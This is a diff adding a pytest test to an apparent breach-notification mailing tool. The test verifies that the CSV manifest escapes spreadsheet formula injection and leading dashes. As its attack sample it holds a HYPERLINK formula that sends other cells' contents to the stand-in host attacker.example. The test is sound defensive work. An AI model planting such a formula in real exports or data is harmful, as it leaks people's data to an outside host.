@@ -93,3 +93,20 @@ def test_an_unwritable_folder_halts_the_channel_and_leaves_no_partial_batch(home
     with pytest.raises(ChannelHalted, match="BREACHFLOW_MAIL_DIR"):
         _send(blocker, [letters.message("1" * 32)], incident_id=incident_id)
     assert blocker.is_file()
+
+
+def test_an_address_line_that_a_spreadsheet_would_run_is_inert_in_the_manifest(home, tmp_path):
+    incident_id = people.incident([])
+    attack = '=HYPERLINK("http://attacker.example/?x="&F2&G2,"Open")'
+    messages = [letters.message("e" * 32, "US", 3, name=attack),
+                letters.message("f" * 32, "US", 4, name="-Dash Leading")]
+    _send(tmp_path / "mail", messages, incident_id=incident_id)
+    [batch] = (tmp_path / "mail" / incident_id).iterdir()
+    rows = {r["delivery_id"]: r for r in csv.DictReader(
+        io.StringIO((batch / "manifest.csv").read_text(encoding="utf-8")))}
+    assert rows["e" * 32]["address_line_1"] == "'" + attack
+    assert rows["f" * 32]["address_line_1"] == "'-Dash Leading"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows.values()
+                   for cell in row.values())
+    # The letter itself prints the name as the directory holds it.
+    assert attack in PdfReader(batch / f"{'e' * 32}.pdf").pages[0].extract_text()
